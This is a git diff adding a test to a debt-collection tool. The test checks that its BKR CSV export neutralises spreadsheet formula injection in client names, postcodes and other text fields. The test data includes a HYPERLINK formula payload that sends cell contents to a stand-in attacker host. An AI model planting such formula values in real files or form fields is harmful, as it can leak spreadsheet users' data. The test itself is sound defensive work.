@@ -5,14 +5,15 @@ from __future__ import annotations
 import csv
 import json
 import shutil
-from datetime import timedelta
+from datetime import datetime, time, timedelta
+from decimal import Decimal
 from pathlib import Path
 
 from sqlalchemy import select, update
 
 from incasso_tui.domain.procedure import DEFAULT_PROCEDURE_PATH
 from incasso_tui.store.db import Database
-from incasso_tui.store.models import BkrMutation, Case, Client
+from incasso_tui.store.models import BkrMutation, Case, Client, Loan
 
 from tests.conftest import AS_OF
 from tests.dispatch_helpers import dispatch_waiting
@@ -101,3 +102,33 @@ def test_the_run_renders_the_letters_it_decided_or_says_why_they_wait(sqlite_tem
     letters = json.loads(rendered.stdout)["letters"]
     assert letters["rendered"] == decided and letters["waiting"] == 0 and letters["failed"] == 0
     assert len(list(outbox.rglob("*.pdf"))) == letters["rendered"]
+
+
+def test_the_bkr_export_defuses_every_formula_prefix(sqlite_template: str, tmp_path: Path) -> None:
+    """A client name (or kvk number, postcode, code) that starts with = + - @, a tab or a carriage return reaches the
+    BKR file with a leading apostrophe: a spreadsheet shows it as text, never runs it (safetext.csv_cell)."""
+    path = tmp_path / "f.db"
+    shutil.copy(sqlite_template, path)
+    url = f"sqlite:///{path}"
+    day = AS_OF + timedelta(days=3)
+    names = {prefix: f'{prefix}HYPERLINK("http://evil.example/?"&A1,"klik")' for prefix in ("=", "+", "-", "@", "\t", "\r")}
+    db = Database(url)
+    with db.transaction() as s:
+        pairs = s.execute(select(Loan.id, Loan.client_id).order_by(Loan.id).limit(len(names))).all()
+        for (loan_id, client_id), name in zip(pairs, names.values(), strict=True):
+            s.execute(update(Client).where(Client.id == client_id).values(name=name, postcode="=1+1"))
+            s.add(BkrMutation(loan_id=loan_id, client_id=client_id, code="A", mutation_date=day, amount=Decimal("10.00"),
+                              created_by="@bakker", created_at=datetime.combine(day, time(6))))
+    db.dispose()
+    exported = run("bkr", "export", "--db", url, "--date", day.isoformat(), "--out", "bkr.csv",
+                   env={"INCASSO_EXPORT_DIR": str(tmp_path / "exports")})
+    assert exported.returncode == 0, exported.stderr
+    out = tmp_path / "exports" / "bkr.csv"
+    assert out.stat().st_mode & 0o777 == 0o600  # client data: the owner's only (atomicfile)
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    shown = {"\t": "\u2409", "\r": "\u240d"}  # a tab and a carriage return as their control pictures (safetext.safe)
+    assert sorted(r["name"] for r in rows) == sorted("'" + shown.get(p, p) + n[1:] for p, n in names.items())
+    assert {r["postcode"] for r in rows} == {"'=1+1"} and {r["created_by"] for r in rows} == {"'@bakker"}
+    text_columns = ("code", "loan_number", "client_number", "client_kind", "name", "kvk", "postcode", "created_by")
+    assert not [r[c] for r in rows for c in text_columns if r[c][:1] in ("=", "+", "-", "@", "\t", "\r")]
